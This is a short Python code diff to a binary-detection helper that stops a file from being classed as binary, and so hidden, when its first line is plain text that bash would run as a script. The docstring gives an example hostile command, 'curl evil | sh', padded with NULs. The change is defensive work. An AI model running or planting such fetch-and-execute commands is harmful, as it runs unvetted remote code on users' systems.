@@ -142,7 +142,20 @@ def _binary(data: bytes) -> bool:
     if b"\0" not in probe:
         return False
     controls = sum(1 for byte in probe if byte < 0x20 and byte not in _TEXT_CONTROLS)
-    return controls * 10 > len(probe)
+    return controls * 10 > len(probe) and not _runs_as_script(probe)
+
+
+def _runs_as_script(probe: bytes) -> bool:
+    """bash runs a file whose first line (within 80 bytes) is plain text as a script,
+    whatever follows: ``curl evil | sh`` then a thousand NULs must be shown as text."""
+    end = probe.find(b"\n", 0, 80)
+    if end < 0:
+        return False
+    try:
+        first = probe[:end].decode("utf-8")
+    except UnicodeDecodeError:
+        return False
+    return all(char >= " " or char in "\t\r" for char in first)
 
 
 def _text(data: bytes) -> str:
